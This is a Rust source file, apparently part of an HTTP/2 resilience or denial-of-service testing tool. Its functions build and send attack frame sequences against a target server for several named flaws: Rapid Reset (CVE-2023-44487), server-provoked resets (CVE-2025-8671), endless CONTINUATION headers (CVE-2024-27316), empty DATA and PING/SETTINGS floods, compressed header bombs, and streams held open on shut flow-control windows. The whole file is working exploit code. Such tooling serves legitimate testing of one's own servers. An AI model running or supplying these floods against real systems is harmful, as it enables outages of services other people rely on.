//! Attacks within one connection. Each returns how much it could do before the connection was ended, or it was done.

use std::time::Duration;

use anyhow::Result;
use tokio::io::AsyncWriteExt as _;
use tokio::time::timeout;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, RST_STREAM,
    THE_LAST, WINDOW_UPDATE, frame, remembered, request, settings,
};
use super::wire::{Target, Wire};

/// Frames that are sent at once.
const BATCH: usize = 64;
/// The largest payload that everybody has to accept.
const LARGEST: usize = 16 * 1024;

/// How an attack went.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Outcome {
    /// How much of it was sent.
    pub(crate) sent: usize,
    /// Whether the connection was ended.
    pub(crate) ended: bool,
}

/// Sends what `make` makes, `count` times, or until the connection ends.
async fn flood(mut wire: Wire, count: usize, mut make: impl FnMut(&mut Wire) -> Vec<u8>) -> Outcome {
    let mut sent = 0;
    while sent < count {
        let batch: Vec<u8> = (0..BATCH.min(count - sent)).flat_map(|_| make(&mut wire)).collect();
        sent += BATCH;
        if !wire.send(&batch).await {
            return Outcome { sent, ended: true };
        }
    }
    // What was sent last may be on its way still.
    Outcome { sent, ended: wire.ends().await }
}

/// Streams that are reset as soon as they are open (CVE-2023-44487).
pub(crate) async fn rapid_reset(target: &Target, count: usize) -> Result<Outcome> {
    let block = request("GET", target.path, &[]);
    Ok(flood(target.http2(None).await?, count, |wire| {
        let stream = wire.stream();
        let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
        [open, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    })
    .await)
}

/// Streams that the server itself has to reset, for an error on each (CVE-2025-8671).
pub(crate) async fn made_reset(target: &Target, count: usize) -> Result<Outcome> {
    let block = request("POST", target.path, &[]);
    Ok(flood(target.http2(None).await?, count, |wire| {
        let stream = wire.stream();
        // A window that grows by nothing is an error of the stream.
        let open = frame(HEADERS, END_HEADERS, stream, &block);
        [open, frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
    })
    .await)
}

/// One header block that never ends (CVE-2024-27316), in frames of the largest size.
pub(crate) async fn endless_headers(target: &Target, frames: usize) -> Result<Outcome> {
    let (mut opened, block) = (false, request("GET", target.path, &[]));
    let header = remembered("x-much", &"x".repeat(LARGEST - 64));
    Ok(flood(target.http2(None).await?, frames, |_| match std::mem::replace(&mut opened, true) {
        false => frame(HEADERS, END_STREAM, 1, &block),
        true => frame(CONTINUATION, 0, 1, &header),
    })
    .await)
}

/// DATA frames without data (CVE-2019-9518).
pub(crate) async fn empty_data(target: &Target, count: usize) -> Result<Outcome> {
    let mut wire = target.http2(None).await?;
    let stream = wire.stream();
    wire.send(&frame(HEADERS, END_HEADERS, stream, &request("POST", target.path, &[]))).await;
    Ok(flood(wire, count, |_| frame(DATA, 0, stream, &[])).await)
}

/// PING and SETTINGS frames whose answers nobody reads (CVE-2019-9512, CVE-2019-9515): they must not pile up.
pub(crate) async fn unread_answers(target: &Target, count: usize) -> Result<Outcome> {
    let mut tls = target.tls().await?;
    tls.write_all(&[PREFACE, &settings(None)].concat()).await?;
    let batch = [frame(PING, 0, 0, &[0; 8]), settings(None)].concat().repeat(BATCH);
    let mut sent = 0;
    while sent < count {
        match timeout(Duration::from_secs(2), tls.write_all(&batch)).await {
            Ok(Ok(())) => sent += 2 * BATCH,
            Ok(Err(_)) => return Ok(Outcome { sent, ended: true }),
            // It takes no more before its answers are read: that is as good.
            Err(_) => break,
        }
    }
    Ok(Outcome { sent, ended: false })
}

/// Header blocks of 16 KiB that stand for 64 MiB each: one long header, and references to it. The same again and again, with windows
/// in which no answer fits, and the connection stays.
pub(crate) async fn header_bomb(target: &Target, blocks: usize) -> Result<(Wire, Outcome)> {
    let header = remembered("x-long", &"x".repeat(4000));
    let start = [request("GET", target.path, &[]), header].concat();
    let block = [&start[..], &vec![THE_LAST; LARGEST - start.len()]].concat();
    let mut wire = target.http2(Some((INITIAL_WINDOW_SIZE, 0))).await?;
    let mut sent = 0;
    for _ in 0..blocks {
        let stream = wire.stream();
        if !wire.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).await {
            break;
        }
        sent += 1;
    }
    let ended = wire.has_ended();
    Ok((wire, Outcome { sent, ended }))
}

/// Requests whose answers are not taken: windows are shut, and stay so.
pub(crate) async fn shut_windows(target: &Target, streams: usize) -> Result<(Wire, Outcome)> {
    let mut wire = target.http2(Some((INITIAL_WINDOW_SIZE, 0))).await?;
    let mut sent = 0;
    for _ in 0..streams {
        let stream = wire.stream();
        if !wire.send(&target.question(stream)).await {
            break;
        }
        sent += 1;
    }
    let ended = wire.has_ended();
    Ok((wire, Outcome { sent, ended }))
}

/// PING and SETTINGS frames whose answers are read.
pub(crate) async fn answered(target: &Target, count: usize) -> Result<Outcome> {
    let both = [frame(PING, 0, 0, &[0; 8]), settings(None)].concat();
    Ok(flood(target.http2(None).await?, count, |_| both.clone()).await)
}

/// Header lists of 16 KiB in a few bytes each, of requests whose bodies do not come: as much as may be held.
pub(crate) async fn held_headers(target: &Target, streams: usize) -> Result<(Wire, Outcome)> {
    let mut wire = target.http2(Some((INITIAL_WINDOW_SIZE, 0))).await?;
    let line = request("POST", target.path, &[("content-type", "application/json")]);
    let header = remembered("x-long", &"x".repeat(3800));
    let mut sent = 0;
    for _ in 0..streams {
        let stream = wire.stream();
        let block = match sent {
            0 => [&line[..], &header, &[THE_LAST; 2]].concat(),
            _ => [&line[..], &[THE_LAST; 3]].concat(),
        };
        if !wire.send(&frame(HEADERS, END_HEADERS, stream, &block)).await {
            break;
        }
        sent += 1;
    }
    let ended = wire.ends().await;
    Ok((wire, Outcome { sent, ended }))
}

/// What a stranger can hold at the pages: as many header lists of 12 KiB as there may be streams, each with a body that does not end,
/// and answers that are not taken.
pub(crate) async fn stranger(target: &Target, streams: usize, body: usize) -> Result<(Wire, Outcome)> {
    let mut wire = target.http2(Some((INITIAL_WINDOW_SIZE, 0))).await?;
    let (long, length) = ("x".repeat(12_000), "60000");
    let more = [("content-type", "application/json"), ("content-length", length), ("x-long", &long)];
    let line = request("POST", target.path, &more);
    let mut sent = 0;
    for _ in 0..streams {
        let stream = wire.stream();
        if !wire.send(&frame(HEADERS, END_HEADERS, stream, &line)).await || !wire.body(stream, body).await {
            break;
        }
        sent += 1;
    }
    let ended = wire.has_ended();
    Ok((wire, Outcome { sent, ended }))
}
